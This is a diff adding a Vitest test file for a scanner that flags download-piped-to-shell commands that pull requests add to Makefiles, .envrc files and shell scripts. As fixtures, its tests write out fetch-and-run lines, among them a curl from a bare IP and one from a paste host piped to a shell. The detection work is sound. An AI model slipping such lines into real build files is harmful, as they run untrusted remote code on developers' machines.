@@ -1,0 +1,28 @@
+import { describe, expect, it } from 'vitest';
+import { runsAsShell, scriptDownloadFindings } from '../../../src/ecosystems/shell/script-downloads.js';
+import { makeFile } from '../../support/snapshot-factory.js';
+
+const patchOf = (removed: string[], added: string[]) => [`@@ -1,${removed.length + 1} +1,${added.length + 1} @@`, ' all: build', ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
+const found = (path: string, removed: string[], added: string[]) => scriptDownloadFindings(makeFile(path, { patch: patchOf(removed, added) })).map((f) => `${f.severity} ${f.path}:${f.line}`);
+
+describe('curl-pipe-shell in scripts and task files', () => {
+  it('knows which files a shell runs', () => {
+    for (const path of ['Makefile', 'sub/GNUmakefile', 'mk/tools.mk', 'justfile', 'Taskfile.yml', '.envrc', 'scripts/install.sh', 'ci/run.bash']) expect(runsAsShell(path), path).toBe(true);
+    for (const path of ['Makefile.am', 'README.md', 'docs/install.md', 'src/shell.ts', 'makefile.txt']) expect(runsAsShell(path), path).toBe(false);
+  });
+
+  it('reports a download piped to a shell that the PR adds: medium, high over HTTP, from a bare IP or a paste host', () => {
+    expect(found('Makefile', [], ['\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b $(GOPATH)/bin v1.61.0'])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', [], ['setup:', '\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:3']);
+    expect(found('.envrc', [], ['export PATH=$PWD/bin:$PATH', 'curl -s https://paste.ee/r/abc | bash'])).toEqual(['high .envrc:3']);
+    expect(found('scripts/bootstrap.sh', [], ['bash <(curl -fsSL https://get.example.dev/install)'])).toEqual(['medium scripts/bootstrap.sh:2']);
+  });
+
+  it('is quiet on a command the PR only moves or re-indents, on comments, and on downloads not run', () => {
+    const line = '\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.61.0';
+    expect(found('Makefile', [line], ['lint: bin/golangci-lint', line])).toEqual([]);
+    expect(found('Makefile', [], ['# curl https://example.com/x.sh | sh was how it used to be installed'])).toEqual([]);
+    expect(found('scripts/fetch.sh', [], ['curl -fsSLo tools.tgz https://example.com/tools.tgz', 'sha256sum -c tools.sha256'])).toEqual([]);
+    expect(found('docs/install.md', [], ['curl -fsSL https://example.com/install.sh | sh'])).toEqual([]);
+  });
+});
